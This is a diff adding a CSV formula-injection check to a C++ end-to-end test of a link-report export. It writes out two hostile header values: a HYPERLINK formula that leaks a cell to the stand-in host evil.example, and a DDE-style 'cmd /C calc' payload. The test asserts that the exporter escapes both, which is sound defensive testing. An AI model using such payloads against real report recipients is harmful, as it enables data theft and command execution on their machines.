@@ -185,9 +185,16 @@ TEST(ReportsEndToEndTest, ThroughTheEdgeFromClicksToTheSseNotificationAndTheCsv)
   // Kafka into raw clicks.
   constexpr int64_t kClicksPerLink = 25;
   const absl::Time start = absl::Now() - absl::Minutes(1);
+  // One referrer and one user agent are formulas, as an attacker would send them to whoever opens
+  // the report in a spreadsheet.
+  const std::string formula = R"f(=HYPERLINK("http://evil.example/?leak="&A1,"click"))f";
   for (const std::string& code : codes) {
     for (int i = 0; i < kClicksPerLink; ++i) {
-      Reply r = Fetch(port, "GET", absl::StrCat("/", code), {{"User-Agent", "kurt-e2e-test"}});
+      std::vector<std::pair<std::string, std::string>> headers = {{"User-Agent", "kurt-e2e-test"}};
+      if (code == codes[0] && i == 3) {
+        headers = {{"User-Agent", "@SUM(1+1)*cmd|' /C calc'!A0"}, {"Referer", formula}};
+      }
+      Reply r = Fetch(port, "GET", absl::StrCat("/", code), headers);
       ASSERT_EQ(r.status, 302u) << r.body;
     }
   }
@@ -233,6 +240,15 @@ TEST(ReportsEndToEndTest, ThroughTheEdgeFromClicksToTheSseNotificationAndTheCsv)
   Reply csv = Fetch(port, "GET", n.report().content_path(), as);
   ASSERT_EQ(csv.status, 200u) << csv.body;
   EXPECT_EQ(csv.Header("content-type"), "text/csv");
+  EXPECT_EQ(csv.Header("content-disposition"),
+            absl::StrCat(R"(attachment; filename="kurt-report-)", report.id(), R"(.csv")"));
+  // The formulas arrive as text: a leading single quote, the cell quoted (OWASP).
+  EXPECT_TRUE(absl::StrContains(
+      csv.body,
+      R"csv(,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")","'@SUM(1+1)*cmd|' /C calc'!A0",)csv"))
+      << csv.body;
+  EXPECT_FALSE(absl::StrContains(csv.body, ",=HYPERLINK")) << csv.body;
+  EXPECT_FALSE(absl::StrContains(csv.body, ",\"=HYPERLINK")) << csv.body;
   EXPECT_EQ(csv.body, ExpectedCsv(d.db().primary_url(), account, start, end));
   EXPECT_EQ(std::count(csv.body.begin(), csv.body.end(), '\n'), 2 * kClicksPerLink + 1);
 
